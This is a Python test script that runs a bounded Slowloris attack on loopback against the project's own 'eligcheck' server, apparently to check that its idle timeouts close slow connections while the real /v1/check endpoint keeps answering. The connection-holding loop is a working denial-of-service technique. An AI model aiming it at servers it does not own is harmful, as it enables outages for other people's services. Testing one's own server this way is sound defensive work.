#!/usr/bin/env python3
"""Slowloris against `eligcheck serve` on loopback, with a concurrent /v1/check.

Opens CONNECTIONS connections, each sending a request head one header line every
INTERVAL seconds and never finishing it, and meanwhile posts a real patient to /v1/check
every few seconds. Without timeouts the server keeps every such connection open for as
long as the attacker likes; with them (ServerLimits.idleTimeout, 10 s) each is closed
10 s after its last complete request part, and the checks keep answering at once.

Bounded: at most 2000 connections, at most 120 s, loopback only. Starts the built
server on a free port unless --port names one already running, and stops it at the end.

Usage: scripts/attacks/slowloris.py [--connections 400] [--interval 10] [--duration 35]
       [--port PORT] [--binary .build/debug/eligcheck]
"""
import argparse
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request

HOST = "127.0.0.1"


def start_server(binary):
    folder = tempfile.mkdtemp(prefix="slowloris-")
    process = subprocess.Popen(
        [binary, "serve", "--host", HOST, "--port", "0", "--db", os.path.join(folder, "cases.sqlite")],
        stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
    deadline = time.time() + 30
    log = ""
    while time.time() < deadline:
        line = process.stderr.readline()
        if not line:
            break
        log += line
        found = re.search(r"listening on 127\.0\.0\.1:([0-9]+)", line)
        if found:
            return process, int(found.group(1))
    process.kill()
    sys.exit("the server did not start:\n" + log)


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None


def check(port, patient):
    request = urllib.request.Request(f"http://{HOST}:{port}/v1/check", data=patient,
                                     headers={"Content-Type": "application/json"})
    start = time.monotonic()
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            status = answer.status
            answer.read()
    except Exception as error:  # an answer that does not come is the finding
        status = f"failed ({error})"
    return status, (time.monotonic() - start) * 1000


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--connections", type=int, default=400)
    parser.add_argument("--interval", type=float, default=10)
    parser.add_argument("--duration", type=float, default=35)
    parser.add_argument("--port", type=int)
    parser.add_argument("--binary", default=".build/debug/eligcheck")
    options = parser.parse_args()
    connections = max(1, min(options.connections, 2000))
    duration = max(1, min(options.duration, 120))
    os.chdir(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
    with open("bench/patient.json", "rb") as file:
        patient = file.read()

    server, port = (None, options.port) if options.port else start_server(options.binary)
    try:
        sockets = []
        for _ in range(connections):
            try:
                s = socket.create_connection((HOST, port), timeout=5)
                s.sendall(b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\n")
                sockets.append(s)
            except OSError as error:
                print(f"connection refused after {len(sockets)}: {error}")
                break
        print(f"{len(sockets)} slow connections open, one header line each every {options.interval:g} s")
        start = time.monotonic()
        next_line = start + options.interval
        next_check = start + 1
        closed_at = {}
        while time.monotonic() - start < duration:
            now = time.monotonic()
            if now >= next_check:
                status, ms = check(port, patient)
                alive = len(sockets) - len(closed_at)
                memory = rss_kb(server.pid) if server else None
                print(f"t={now - start:5.1f} s  /v1/check: {status} in {ms:.1f} ms; slow connections still open: {alive}"
                      + (f"; server RSS {memory / 1024:.0f} MB" if memory else ""))
                next_check = now + 5
            if now >= next_line:
                for index, s in enumerate(sockets):
                    if index in closed_at:
                        continue
                    try:
                        s.sendall(b"X-Slow: 1\r\n")
                    except OSError:
                        closed_at[index] = now - start
                next_line = now + options.interval
            # A closed connection reads as end of file.
            for index, s in enumerate(sockets):
                if index in closed_at:
                    continue
                s.setblocking(False)
                try:
                    if s.recv(1) == b"":
                        closed_at[index] = now - start
                except BlockingIOError:
                    pass
                except OSError:
                    closed_at[index] = now - start
                s.setblocking(True)
            time.sleep(0.2)
        times = sorted(closed_at.values())
        print(json.dumps({
            "slow_connections": len(sockets),
            "closed_by_server": len(times),
            "closed_after_s": {"first": round(times[0], 1), "last": round(times[-1], 1)} if times else None,
        }))
        for s in sockets:
            s.close()
        return 0 if len(times) == len(sockets) else 1
    finally:
        if server:
            server.terminate()
            server.wait(timeout=20)


if __name__ == "__main__":
    sys.exit(main())
